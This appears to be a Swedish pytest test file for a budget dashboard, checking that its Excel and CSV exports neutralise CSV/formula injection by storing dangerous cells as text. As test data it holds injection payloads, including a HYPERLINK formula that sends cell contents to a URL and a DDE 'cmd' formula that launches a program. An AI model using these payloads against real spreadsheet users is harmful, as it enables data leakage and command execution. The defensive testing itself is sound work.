"""Exporter bär aldrig formler (issue 14, OWASP:s råd mot CSV-injektion): en cell vars text börjar med =, +, -,
@, tabb eller CR skrivs som text i varje Excel- och CSV-fil som produkten skriver, och tal förblir tal.

Attacken: en budgetfil vars poster är formler läses in, och en läsare (viewer) hämtar nedladdningarna på sidan
Ekonomi och mötesunderlagets Excel."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import polars as pl
import pytest
import streamlit.testing.v1.app_test as app_test_modul
import xlsxwriter
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from uppfoljning import export, uppladdning
from uppfoljning.behorighet import Anvandare

from .conftest import DASHBOARD, skriv

FARLIGA = ("=", "+", "-", "@", "\t", "\r")
HYPERLANK = '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Klicka här")'
POSTER = [HYPERLANK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=2", "=cmd|' /C calc'!A0"]
# Inläsningen tar bort omgivande blanktecken: "\t=1" och "\r=2" lagras som "=1" och "=2" (två poster med samma
# namn vore en dubblett, som kontrollen vägrar).
LAGRADE = [HYPERLANK, "+1+1", "-2+3", "@SUM(A1)", "=1", "=2", "=cmd|' /C calc'!A0"]


def _budgetfil() -> bytes:
    """En budget för 2020 i Excel (strängceller, så att nyttolasterna kommer in som text)."""
    buffert = io.BytesIO()
    with xlsxwriter.Workbook(buffert, {"strings_to_formulas": False, "strings_to_urls": False}) as bok:
        ark = bok.add_worksheet("Budget")
        ark.write_row(0, 0, ["År", "Avsnitt", "Post", "Plattform", "Utfall", "Budget"])
        for i, post in enumerate(POSTER, 1):
            ark.write_row(i, 0, [2020, "Insatser SAMO", post, "Vännäs" if i == 1 else None, -100 - i, -120])
        ark.write_row(len(POSTER) + 1, 0, [2020, "Intäkter SAMO", "Medlemsavgifter", None, 11380, 11380])
    return buffert.getvalue()


@pytest.fixture
def filer(monkeypatch):
    """Nedladdningsknapparnas filer i AppTest: lagret och hanteraren (mötesunderlagets filer byggs först vid klick)."""
    lager: list[MemoryMediaFileStorage] = []
    hanterare: list[MediaFileManager] = []

    class Lager(MemoryMediaFileStorage):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            lager.append(self)

    class Hanterare(MediaFileManager):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            hanterare.append(self)

    monkeypatch.setattr(app_test_modul, "MemoryMediaFileStorage", Lager)
    monkeypatch.setattr(app_test_modul, "MediaFileManager", Hanterare)
    return lager, hanterare


def _nedladdningar(at: AppTest, filer) -> dict[str, bytes]:
    """Alla filer som sidans nedladdningsknappar ger, efter filnamn; de som byggs vid klick byggs här."""
    lager, hanterare = filer
    ut = {}
    for knapp in at.get("download_button"):
        url = knapp.proto.url
        if not url and knapp.proto.deferred_file_id:
            url = hanterare[-1].execute_deferred(knapp.proto.deferred_file_id)
        fil = lager[-1].get_file(url.rsplit("/", 1)[-1].split("?")[0].rsplit(".", 1)[0])
        ut[fil.filename] = fil.content
    return ut


def _sida_som_lasare(sida: str, monkeypatch, tmp_path) -> AppTest:
    monkeypatch.setenv("UPPFOLJNING_INLOGGNING", "losenord")
    monkeypatch.setenv("UPPFOLJNING_ANVANDARE", str(tmp_path / "anvandare.json"))
    at = AppTest.from_file(DASHBOARD, default_timeout=120)
    at.session_state["inloggad"] = Anvandare("test-viewer", "viewer")
    at.run()
    at.switch_page(sida)
    at.query_params["ar"] = "2020"
    at.run()
    assert not at.exception, at.exception
    return at


def _celler_i_xlsx(innehall: bytes) -> list:
    bok = openpyxl.load_workbook(io.BytesIO(innehall))
    return [c for ark in bok.worksheets for rad in ark.iter_rows() for c in rad if c.value is not None]


def _kontrollera_xlsx(innehall: bytes, namn: str) -> set[str]:
    """Ingen cell är en formel eller en länk; texterna som finns kvar returneras."""
    texter = set()
    for c in _celler_i_xlsx(innehall):
        assert c.data_type != "f", f"{namn}: {c.coordinate} är en formel: {c.value!r}"
        assert c.hyperlink is None, f"{namn}: {c.coordinate} är en länk: {c.hyperlink.target!r}"
        if isinstance(c.value, str):
            texter.add(c.value)
    return texter


def _ar_tal(text: str) -> bool:
    """Ett tal som produkten skriver det ("-120", "-1,5", "-11 558 tkr", "+13 procentenheter"): inget Excel kan
    köra, och ett inledande ' skulle synas i Excel."""
    return re.fullmatch(r"[+-]?\d[\d \u00a0]*(,\d+)?( (tkr|kr|%|procentenheter))?", text) is not None


def _las_csv(innehall: bytes) -> list[list[str]]:
    """Raderna som Excel läser dem (Pythons csv-modul; Polars avkodar inte citattecken i rubriker)."""
    return list(csv.reader(io.StringIO(innehall.decode("utf-8-sig"), newline=""), delimiter=";"))


def _kontrollera_csv(innehall: bytes, namn: str) -> set[str]:
    """Ingen cell börjar med ett tecken som får Excel att tolka den som formel (utom tal, t.ex. -120)."""
    texter = set()
    for nr, rad in enumerate(_las_csv(innehall), 1):
        for v in rad:
            assert _ar_tal(v) or not v.startswith(FARLIGA), f"{namn}: rad {nr}: {v!r}"
            texter.add(v)
    return texter


def test_lasarens_nedladdningar_och_motesunderlaget_bar_inga_formler(app_databas, monkeypatch, tmp_path, filer):
    with skriv(app_databas) as con:
        uppladdning.las_in(con, _budgetfil(), "budget-formler.xlsx", "budget", "test", ersatt=True)
        assert sorted(r[0] for r in con.execute("SELECT post FROM budget WHERE period = 2020").fetchall()) == \
            sorted(LAGRADE + ["Medlemsavgifter"])

    at = _sida_som_lasare("pages/ekonomi.py", monkeypatch, tmp_path)
    ekonomi = _nedladdningar(at, filer)
    assert {"Budget och utfall 2020.csv", "Budget och utfall 2020.xlsx"} <= set(ekonomi)

    # Excel: posterna står kvar som text, ordagrant, och beloppen är tal.
    excel = ekonomi["Budget och utfall 2020.xlsx"]
    texter = _kontrollera_xlsx(excel, "Ekonomi, Excel")
    for post in LAGRADE:
        assert post in texter or f"{post} ⚠" in texter, post
    # CSV: posterna med ett inledande ' (OWASP), annars oförändrade.
    csv = ekonomi["Budget och utfall 2020.csv"]
    texter = _kontrollera_csv(csv, "Ekonomi, CSV")
    for post in LAGRADE:
        assert f"'{post}" in texter or f"'{post} ⚠" in texter, post
    for namn, innehall in ekonomi.items():
        (_kontrollera_xlsx if namn.endswith(".xlsx") else _kontrollera_csv)(innehall, namn)

    at = _sida_som_lasare("pages/motesunderlag.py", monkeypatch, tmp_path)
    underlag = _nedladdningar(at, filer)
    assert "motesunderlag-2020-lasare.xlsx" in underlag
    bok = openpyxl.load_workbook(io.BytesIO(underlag["motesunderlag-2020-lasare.xlsx"]))
    texter = _kontrollera_xlsx(underlag["motesunderlag-2020-lasare.xlsx"], "Mötesunderlaget, Excel")
    for post in LAGRADE:
        assert any(t.startswith(post) for t in texter), post
    # Beloppen i mötesunderlagets budgetblad är tal, även de negativa.
    belopp = [c.value for rad in bok["Budget"].iter_rows(min_row=2) for c in rad if isinstance(c.value, (int, float))]
    assert any(v < 0 for v in belopp), belopp
    for namn, innehall in underlag.items():
        if namn.endswith(".xlsx"):
            _kontrollera_xlsx(innehall, namn)
        elif namn.endswith(".csv"):
            _kontrollera_csv(innehall, namn)


@pytest.mark.parametrize("farlig", ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HYPERLANK,
                                     "http://127.0.0.1:9/", "=1\n=2"])
def test_export_skriver_farliga_texter_som_text_och_tal_som_tal(farlig):
    tabell = pl.DataFrame({"Text": [farlig, "vanlig", "-1 020 tkr", "-5", "+13 procentenheter", None],
                           "Belopp": [-120, 0, 3, -1, 1, 2], "Andel": [-1.5, 0.0, 2.5, -0.25, 1.0, None],
                           farlig: ["rubrik", "från", "data", "", "", ""]})
    # Excel: en strängcell med exakt samma text, ingen formel, ingen länk; belopp och andelar är tal.
    celler = _celler_i_xlsx(export.excel_bytes({"Blad": tabell}))
    assert all(c.data_type != "f" and c.hyperlink is None for c in celler), \
        [(c.coordinate, c.value) for c in celler if c.data_type == "f" or c.hyperlink]
    # xlsxwriter skriver CR som _x000D_ (som Excel läser som CR); openpyxl avkodar det inte.
    varden = [c.value.replace("_x000D_", "\r") if isinstance(c.value, str) else c.value for c in celler]
    assert farlig in varden and varden.count(farlig) == 2  # cellen och rubriken
    assert -120 in varden and -1.5 in varden and -0.25 in varden
    assert all(c.data_type == "n" for c in celler if isinstance(c.value, (int, float)))
    # CSV: ett inledande ' på texten som börjar farligt, tal oförändrade.
    rubriker, *rader = _las_csv(export.csv_bytes(tabell))
    som_text = f"'{farlig}" if farlig.startswith(FARLIGA) else farlig
    assert rubriker == ["Text", "Belopp", "Andel", som_text]
    assert [r[0] for r in rader] == [som_text, "vanlig", "-1 020 tkr", "-5", "+13 procentenheter", ""]
    assert [r[1] for r in rader] == ["-120", "0", "3", "-1", "1", "2"]
    assert [r[2] for r in rader] == ["-1,5", "0,0", "2,5", "-0,25", "1,0", ""]
